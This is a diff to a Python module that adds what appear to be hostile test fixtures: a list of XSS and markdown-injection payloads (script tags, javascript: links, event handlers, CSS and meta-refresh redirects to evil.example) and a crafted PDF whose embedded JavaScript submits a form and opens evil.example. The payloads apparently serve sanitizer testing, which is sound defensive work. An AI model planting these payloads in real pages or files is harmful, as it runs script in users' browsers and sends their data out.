@@ -95,3 +95,55 @@ def _note(name: str, attempt: str, number: int) -> Hostile:
 
 
 DOCUMENTS = tuple(_note(name, attempt, number) for number, (name, attempt) in enumerate(_ATTEMPTS.items()))
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/beacon.png)",
+    '![x"onerror="alert(1)](a.png)',
+    '[[x" onclick="alert(1)]]',
+    "![[x.png|<img src=x onerror=alert(1)>]]",
+    "<style>body{background:url(https://evil.example)}</style>",
+    "<p style='background:url(https://evil.example)'>x</p>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example>",
+    "<form action=https://evil.example><input name=a><button>x</button></form>",
+    "<object data=x></object><embed src=x><video src=x></video><audio src=x></audio>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<div id=reader name=question>clobber</div>",
+    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
+    "> [!<img src=x onerror=alert(1)>] x",
+    "#<img/src=x/onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='https://ok.example' onclick=alert(1) target=_blank>x</a>",
+]
+
+
+# A page with a word, which would run a script when it is opened, when it is shown and when it is clicked.
+HOSTILE_PDF = b"""%PDF-1.7
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\))>>
+/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.launchURL\\('https://evil.example'\\))>>]>>>>>>endobj
+2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>
+/AA<</O<</S/URI/URI(https://evil.example/opened)>>>>/Annots[6 0 R]>>endobj
+4 0 obj<</Length 47>>stream
+BT /F 18 Tf 20 150 Td (A hostile zebra) Tj ET
+endstream endobj
+5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
+6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/JavaScript/JS(app.alert\\(2\\))>>>>endobj
+trailer<</Root 1 0 R>>
+"""
